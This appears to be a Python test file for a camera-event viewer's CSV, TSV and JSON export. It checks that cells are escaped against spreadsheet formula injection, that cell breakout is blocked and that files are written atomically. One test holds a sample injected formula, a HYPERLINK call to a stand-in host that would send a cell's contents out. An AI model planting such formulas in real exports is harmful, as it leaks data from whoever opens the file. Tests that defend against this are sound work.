from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ringviewer.casefile.event_facts import FACT_NAMES, event_facts
from ringviewer.casefile.growing_file import GrowingFile
from ringviewer.casefile.table_text import BYTE_ORDER_MARK, csv_line, json_rows, tsv_line
from ringviewer.diagnosis.still_match import StillMatch
from ringviewer.history.event import Event
from ringviewer.history.wording import plain
from ringviewer.partner_api.asks import StillAsk
from ringviewer.partner_api.exchange import Leg
from ringviewer.session.stills import StillView
from tests.ui.tables.fakes import NOW_MS, a_lane

_PACIFIC = ZoneInfo("America/Los_Angeles")
_SIGNS = "=+-@\t\r\n＝＋－＠﹢﹣﹦﹫⁺⁻⁼₊−"


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@given(st.lists(st.lists(st.none() | st.booleans() | st.integers() | st.text(max_size=30), min_size=2), min_size=1))
def test_csv_says_again_what_was_written_and_nothing_is_a_formula(rows: list[list[str | int | bool | None]]) -> None:
    back = read("".join(csv_line(row) for row in rows))
    assert len(back) == len(rows)
    for row, cells in zip(rows, back, strict=True):
        assert len(cells) == len(row)
        for fact, cell in zip(row, cells, strict=True):
            if isinstance(fact, str):
                assert cell.removeprefix("'") == plain(fact, 32_000).removeprefix("'")
                assert not cell.lstrip().startswith(tuple(_SIGNS))
            else:
                assert cell == ("" if fact is None else str(fact) if type(fact) is int else "yes" if fact else "no")


@pytest.mark.parametrize("sign", _SIGNS)
@pytest.mark.parametrize("before", ["", " ", "\u3000", "\u2007"])
def test_a_formula_becomes_text(sign: str, before: str) -> None:
    evil = f'{before}{sign}HYPERLINK("https://example.test/?"&A1)'
    for line in (csv_line([evil, 1]), tsv_line([evil, 1])):
        assert next(csv.reader([line], delimiter="\t" if "\t" in line else ","))[0].startswith("'")


def test_numbers_below_zero_stay_numbers() -> None:
    assert csv_line([-134_000, 5]) == "-134000,5\r\n"
    assert tsv_line([-134_000, True]) == "-134000\tyes\n"


def test_a_name_cannot_break_out_of_its_cell() -> None:
    evil = 'a"b\tc\r\nd\u202ee'
    shown = plain(evil)
    assert not {"\t", "\r", "\n", "\u202e"} & set(shown)
    assert read(csv_line([evil, "x"])) == [[shown, "x"]]
    assert tsv_line([evil, "x"]) == f'"{shown.replace(chr(34), chr(34) * 2)}"\tx\n'


def test_an_event_with_its_still_has_these_facts_and_no_address() -> None:
    lane = a_lane("front", "=Front")
    event = Event("e-1", "front", "motion.human", 1_791_505_267_410, 1_791_505_299_110, True)
    leg = Leg("POST", "api.example.test", 303, None, "0000002a-0000", 120, None)
    lane.stills["e-1"] = StillView(
        StillAsk.at("front", event.start_ms),
        event,
        "shown",
        actual_ms=event.start_ms + 6_900,
        match=StillMatch(6_900, "within", "within ±10 s", "", None),
        legs=(leg,),
    )
    facts = event_facts(lane, event, _PACIFIC)
    assert tuple(facts) == FACT_NAMES
    assert facts == {
        "start": "2026-10-08T17:21:07.410-07:00",
        "start_ms": 1_791_505_267_410,
        "end": "2026-10-08T17:21:39.110-07:00",
        "end_ms": 1_791_505_299_110,
        "length_ms": 31_700,
        "device": "=Front",
        "device_id": "front",
        "kind": "motion.human",
        "reviewed_by_the_app": True,
        "fetched_by_this_visit": False,
        "still": "shown",
        "requested": "2026-10-08T17:21:07.410-07:00",
        "requested_ms": 1_791_505_267_410,
        "requested_to_ms": None,
        "actual": "2026-10-08T17:21:14.310-07:00",
        "actual_ms": 1_791_505_274_310,
        "offset_ms": 6_900,
        "verdict": "within",
        "request_id": "0000002a-0000",
        "note": None,
        "event_id": "e-1",
    }
    assert json.loads(json_rows([facts])) == [facts]
    assert tsv_line(facts.values()).split("\t")[5] == "'=Front"
    unasked = event_facts(lane, Event("e-2", "front", "ding", NOW_MS), _PACIFIC)
    assert (unasked["still"], unasked["end"], unasked["length_ms"]) == ("not asked", None, None)
    assert tuple(unasked) == FACT_NAMES
    assert json_rows([]) == "[]\n"


def test_a_file_is_there_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "events.csv"
    path.write_text("before")
    given_up = GrowingFile(path)
    given_up.write("half")
    given_up.discard()
    assert path.read_text() == "before"
    assert list(tmp_path.iterdir()) == [path]
    whole = GrowingFile(path)
    whole.write(BYTE_ORDER_MARK + "a\r\n")
    whole.finish()
    whole.discard()
    assert path.read_bytes() == b"\xef\xbb\xbfa\r\n"
    assert path.stat().st_mode & 0o077 == 0
    with pytest.raises(IsADirectoryError):
        GrowingFile(tmp_path)
    with pytest.raises(FileNotFoundError):
        GrowingFile(tmp_path / "none" / "x.csv")
